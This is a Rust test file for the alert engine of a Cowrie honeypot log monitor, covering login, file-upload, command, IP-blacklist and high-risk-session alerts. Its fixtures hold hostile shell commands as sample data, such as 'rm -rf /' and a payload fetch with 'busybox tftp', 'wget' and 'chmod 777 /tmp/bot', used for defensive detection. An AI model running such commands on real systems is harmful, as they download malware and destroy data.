//! Tests for the alert engine: every rule of the fixed set, message
//! texts, acknowledgement and clearing.

use xkippo::alert_engine::{AlertEngine, AlertType};
use xkippo::log_analyzer::LogAnalyzer;
use xkippo::models::LogEntry;
use xkippo::settings::{AlertConfig, Config};
use xkippo::store::StoreError;

fn entry(json: &str) -> LogEntry {
    LogAnalyzer::new().parse_log_entry(json).expect("test line must parse")
}

fn config_with_all_rules() -> AlertConfig {
    let mut c = AlertConfig::default();
    c.on_new_source_ip = true;
    c.on_commands.push("rm -rf".to_string());
    c.ip_blacklist.push("6.6.6.6".to_string());
    c
}

#[test]
fn successful_login_raises_an_alert() {
    let mut engine = AlertEngine::new(config_with_all_rules());
    let e = entry(
        r#"{"eventid":"cowrie.login.success","timestamp":"2024-01-01T00:00:00Z","session":"s1","username":"root","src_ip":"1.2.3.4","password":"x"}"#,
    );
    engine.process_log_entry(&e, 1000);
    let alerts = engine.get_alerts();
    assert!(alerts
        .iter()
        .any(|a| a.message == "Successful login for user 'root' from 1.2.3.4"));
    assert!(alerts.iter().all(|a| !a.acknowledged));
    assert!(alerts.iter().all(|a| a.timestamp == 1000));
}

#[test]
fn file_upload_raises_an_alert() {
    let mut engine = AlertEngine::new(config_with_all_rules());
    let e = entry(
        r#"{"eventid":"cowrie.session.file_upload","timestamp":"2024-01-01T00:00:00Z","session":"s1","filename":"bot.bin","shasum":"cafe"}"#,
    );
    engine.process_log_entry(&e, 0);
    assert!(engine
        .get_alerts()
        .iter()
        .any(|a| a.message == "File uploaded: bot.bin (SHA256: cafe)"));
}

#[test]
fn configured_command_substring_raises_an_alert() {
    let mut engine = AlertEngine::new(config_with_all_rules());
    let e = entry(
        r#"{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:00Z","session":"s1","input":"rm -rf /"}"#,
    );
    engine.process_log_entry(&e, 0);
    assert!(engine
        .get_alerts()
        .iter()
        .any(|a| a.message == "Suspicious command: rm -rf /"));
    // a command without the substring stays quiet
    let mut engine2 = AlertEngine::new(config_with_all_rules());
    let e2 = entry(
        r#"{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:00Z","session":"s1","input":"ls"}"#,
    );
    engine2.process_log_entry(&e2, 0);
    assert!(engine2.get_alerts().is_empty());
}

#[test]
fn new_source_ip_raises_once() {
    let mut engine = AlertEngine::new(config_with_all_rules());
    let e = entry(
        r#"{"eventid":"cowrie.session.connect","timestamp":"2024-01-01T00:00:00Z","session":"s1","src_ip":"7.7.7.7"}"#,
    );
    engine.process_log_entry(&e, 0);
    engine.process_log_entry(&e, 1);
    let hits = engine
        .get_alerts()
        .iter()
        .filter(|a| a.message == "New source IP detected: 7.7.7.7")
        .count();
    assert_eq!(hits, 1);
}

#[test]
fn blacklisted_ip_raises_unless_whitelisted() {
    let mut engine = AlertEngine::new(config_with_all_rules());
    let e = entry(
        r#"{"eventid":"cowrie.session.connect","timestamp":"2024-01-01T00:00:00Z","session":"s1","src_ip":"6.6.6.6"}"#,
    );
    engine.process_log_entry(&e, 0);
    assert!(engine
        .get_alerts()
        .iter()
        .any(|a| a.message == "Connection from blacklisted IP: 6.6.6.6"));

    let mut allowed_cfg = config_with_all_rules();
    allowed_cfg.ip_whitelist.push("6.6.6.6".to_string());
    let mut engine2 = AlertEngine::new(allowed_cfg);
    engine2.process_log_entry(&e, 0);
    assert!(!engine2
        .get_alerts()
        .iter()
        .any(|a| a.message.starts_with("Connection from blacklisted")));
}

#[test]
fn disabled_engine_stays_silent() {
    let mut cfg = config_with_all_rules();
    cfg.enabled = false;
    let mut engine = AlertEngine::new(cfg);
    let e = entry(
        r#"{"eventid":"cowrie.login.success","timestamp":"2024-01-01T00:00:00Z","session":"s1","username":"root","src_ip":"6.6.6.6"}"#,
    );
    engine.process_log_entry(&e, 0);
    assert!(engine.get_alerts().is_empty());
}

#[test]
fn high_risk_session_raises_with_reason() {
    let a = LogAnalyzer::new();
    let config = Config::default();
    let mut store = xkippo::store::Store::new(&config).unwrap();
    let mgr = xkippo::session_manager::SessionManager::new(&config).unwrap();
    let lines = [
        r#"{"eventid":"cowrie.login.success","timestamp":"2024-01-01T00:00:00Z","session":"s1","username":"root","password":"1","src_ip":"1.2.3.4"}"#,
        r#"{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:01Z","session":"s1","input":"busybox tftp -g host"}"#,
        r#"{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:02Z","session":"s1","input":"chmod 777 /tmp/bot"}"#,
        r#"{"eventid":"cowrie.command.input","timestamp":"2024-01-01T00:00:03Z","session":"s1","input":"wget http://x/m"}"#,
    ];
    for l in lines {
        mgr.process_log_entry(&mut store, &a.parse_log_entry(l).unwrap())
            .unwrap();
    }
    let s = store.get_session("s1").unwrap();
    assert!(s.malicious_score >= 80, "score {}", s.malicious_score);
    let mut engine = AlertEngine::new(AlertConfig::default());
    engine.process_session_update(s, 5);
    let alerts = engine.get_alerts();
    assert_eq!(alerts.len(), 1);
    let expected = format!(
        "High risk activity detected (Score: {}): Successful login, 3 suspicious commands",
        s.malicious_score
    );
    assert_eq!(alerts[0].message, expected);
    // below the threshold nothing is raised
    let mut quiet = AlertEngine::new(AlertConfig::default());
    let calm = xkippo::session_manager::create_session_from_log_entry(
        "calm",
        &a.parse_log_entry(lines[0]).unwrap(),
    )
    .unwrap();
    quiet.process_session_update(&calm, 5);
    assert!(quiet.get_alerts().is_empty());
}

#[test]
fn acknowledge_and_clear() {
    let mut engine = AlertEngine::new(config_with_all_rules());
    engine.trigger_alert(AlertType::NewSourceIp { ip: "1.1.1.1".to_string() }, 0);
    engine.trigger_alert(AlertType::NewSourceIp { ip: "2.2.2.2".to_string() }, 1);
    assert_eq!(engine.acknowledge_alert(5), Err(StoreError::NotFound));
    assert_eq!(engine.acknowledge_alert(0), Ok(()));
    assert!(engine.get_alerts()[0].acknowledged);
    assert!(!engine.get_alerts()[1].acknowledged);
    engine.clear_acknowledged_alerts();
    assert_eq!(engine.get_alerts().len(), 1);
    assert_eq!(engine.get_alerts()[0].message, "New source IP detected: 2.2.2.2");
    engine.clear_all_alerts();
    assert!(engine.get_alerts().is_empty());
}
